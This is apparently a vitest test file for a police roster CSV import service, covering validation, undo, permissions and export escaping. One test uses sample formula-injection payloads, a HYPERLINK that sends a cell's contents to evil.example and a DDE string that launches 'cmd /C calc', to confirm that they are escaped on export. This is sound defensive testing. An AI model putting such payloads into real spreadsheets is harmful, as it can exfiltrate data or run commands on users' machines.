import Papa from 'papaparse'
import { afterEach, describe, expect, it } from 'vitest'
import { ROSTER_FIELDS } from '../../../src/main/roster/roster-fields'
import { ROSTER_MAPPING_FIELDS } from '../../../src/shared/ipc/features/staffing-contract'
import { makeServices } from '../../helpers/services'
import { dumpTables } from '../../helpers/table-dump'

const HEADER = 'Name,Rank,Employee ID,Badge,Email,Area,Neighborhood,Shift,Status,Notes'
type S = ReturnType<typeof makeServices>
let s: S | null = null
afterEach(() => {
  s?.cleanup()
  s = null
})
function sample(): S {
  s = makeServices()
  return s
}
const auditRows = (x: S) => x.repos.db.prepare('SELECT COUNT(*) AS n FROM audit_log').get() as { n: number }

describe('roster import through the officer service', () => {
  it('the import mapping fields are exactly the roster fields', () => {
    expect([...ROSTER_MAPPING_FIELDS]).toEqual([...ROSTER_FIELDS])
  })

  it('a clean file previews, then imports as one undoable change set with one audit row', () => {
    const x = sample()
    const text = [
      HEADER,
      'Alma Reyes,Officer,N-100,900,a.reyes@pd.example.gov,Northeast,Springtown,Day,active,',
      'Ben Ortiz,Officer,N-101,901,b.ortiz@pd.example.gov,South,Wente,Night,leave,on leave until May',
      'Cy Young,Sergeant,N-102,902,c.young@pd.example.gov,Northwest,,Swing,,',
    ].join('\r\n')
    const p = x.officers.preview(text)
    expect(p).toMatchObject({ totalRows: 3, validRows: 3, adds: 3, updates: 0, errorCount: 0 })
    expect(p.sample.map((r) => [r.line, r.displayName, r.areaName, r.neighborhoodName, r.action])).toEqual([
      [2, 'Alma Reyes', 'Northeast', 'Springtown', 'add'],
      [3, 'Ben Ortiz', 'South', 'Wente', 'add'],
      [4, 'Cy Young', 'Northwest', '', 'add'],
    ])
    expect(p.fields.find((f) => f.field === 'personalPhone')?.private).toBe(true)
    expect(p.fields.find((f) => f.field === 'email')?.private).toBe(false)
    const audit0 = auditRows(x).n
    const officers0 = x.repos.officers.list().length
    const r = x.officers.import(text, p.mapping, false, x.session.actor())
    expect(r).toMatchObject({ added: 3, updated: 0, skippedRows: 0 })
    expect(auditRows(x).n).toBe(audit0 + 1)
    expect(x.repos.officers.get('off-N-101')).toMatchObject({ areaId: 'S', neighborhoodId: 'S-wente', status: 'leave', shift: 'Night' })
    expect(x.repos.officers.get('off-N-101')!.private.notes).toBe('on leave until May')
    // Importing the same file again changes nothing.
    expect(x.officers.preview(text)).toMatchObject({ adds: 0, updates: 0, unchanged: 3 })
    expect(x.officers.import(text, p.mapping, false, x.session.actor()).applied).toBeNull()
    x.changes.undo(x.session.actor())
    expect(x.repos.officers.list()).toHaveLength(officers0)
  })

  it('a duplicate id, an unknown area and a bad email: errors name line and column, and nothing is applied', () => {
    const x = sample()
    const text = [
      HEADER,
      'Good Row,Officer,N-1,1,good@pd.example.gov,Northeast,,Day,active,',
      'Dup One,Officer,N-2,2,d1@pd.example.gov,Northeast,,Day,active,',
      'Dup Two,Officer,N-2,3,d2@pd.example.gov,Northeast,,Day,active,',
      'Lost Area,Officer,N-3,4,l@pd.example.gov,East Side,,Day,active,',
      'Bad Mail,Officer,N-4,5,not-an-email,South,,Day,active,',
    ].join('\n')
    const p = x.officers.preview(text)
    expect(p.errors.map((e) => [e.line, e.column])).toEqual([
      [3, 'Employee ID'],
      [4, 'Employee ID'],
      [5, 'Area'],
      [6, 'Email'],
    ])
    expect(p.errors[2].message).toBe('Unknown area "East Side"')
    expect(p).toMatchObject({ validRows: 1, rowsWithErrors: 4, errorCount: 4 })
    const before = dumpTables(x.repos.db)
    expect(() => x.officers.import(text, p.mapping, false, x.session.actor())).toThrow(
      /Nothing was imported: 4 rows have errors \(first: line 3, column "Employee ID"/,
    )
    expect(dumpTables(x.repos.db)).toEqual(before)
    // Only when the user ticks "skip the rows with errors" is the good row applied.
    const r = x.officers.import(text, p.mapping, true, x.session.actor())
    expect(r).toMatchObject({ added: 1, skippedRows: 4 })
    expect(x.repos.officers.get('off-N-1')).not.toBeNull()
    expect(x.repos.officers.get('off-N-2')).toBeNull()
  })

  it('a row over the plan limits (a 121-character name) is an error of that row and column', () => {
    const x = sample()
    const p = x.officers.preview(`Name,Email\n${'x'.repeat(121)},ok@pd.example.gov\n`)
    expect(p.errors).toEqual([{ line: 2, column: 'Name', message: 'Name: name is longer than 120 characters' }])
  })

  it('a formula-injection cell is stored as typed and exported escaped', () => {
    const x = sample()
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    const text = `Name,Employee ID,Notes,Desk phone\n"${evil.replace(/"/g, '""')}",F-1,"@SUM(1+1)*cmd|' /C calc'!A0",+1 925 555 0100\n`
    const r = x.officers.import(text, x.officers.preview(text).mapping, false, x.session.actor())
    expect(r.added).toBe(1)
    const stored = x.repos.officers.get('off-F-1')!
    expect(stored.displayName).toBe(evil)
    const { csv } = x.officers.exportCsv()
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data
    const header = rows[0]
    const row = rows.find((r) => r[header.indexOf('Employee ID')] === 'F-1')!
    expect(row[header.indexOf('Name')]).toBe(`'${evil}`)
    expect(row[header.indexOf('Notes')]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`)
    expect(row[header.indexOf('Desk phone')]).toBe(`'+1 925 555 0100`)
    // No cell of the export starts with a formula character.
    for (const rr of rows) for (const c of rr) expect(c).not.toMatch(/^[=+\-@\t\r]/)
    // The export reads back without changes.
    expect(x.officers.preview(csv)).toMatchObject({ errorCount: 0, adds: 0, updates: 0 })
  })

  it('a 5,000-row file imports in one transaction: one audit row, one undo', () => {
    const x = sample()
    const nbs = ['Springtown', 'Vasco', 'Wente', 'Downtown']
    const areas = ['Northeast', 'Northeast', 'South', 'Northwest']
    const lines = [HEADER]
    for (let i = 0; i < 5000; i++) lines.push(`"Officer ${i}, Jr",Officer,B-${i},${i},o${i}@pd.example.gov,${areas[i % 4]},${nbs[i % 4]},Day,active,`)
    const text = lines.join('\r\n')
    const audit0 = auditRows(x).n
    const officers0 = x.repos.officers.list().length
    const r = x.officers.import(text, x.officers.preview(text).mapping, false, x.session.actor())
    expect(r.added).toBe(5000)
    expect(auditRows(x).n).toBe(audit0 + 1)
    expect(x.repos.officers.list()).toHaveLength(officers0 + 5000)
    expect(x.repos.officers.get('off-B-4999')).toMatchObject({ areaId: 'NW' })
    x.changes.undo(x.session.actor())
    expect(x.repos.officers.list()).toHaveLength(officers0)
  })

  it('an Area Commander cannot import officers into another area; nothing is stored', () => {
    const x = sample()
    x.session.setProfile({ role: 'commander', areaId: 'NE' })
    const text = `${HEADER}\nSam Lee,Officer,C-1,1,s.lee@pd.example.gov,South,,Day,active,\n`
    const before = dumpTables(x.repos.db)
    expect(() => x.officers.import(text, x.officers.preview(text).mapping, false, x.session.actor())).toThrow(/Area Commander of Northeast/)
    expect(dumpTables(x.repos.db)).toEqual(before)
  })
})
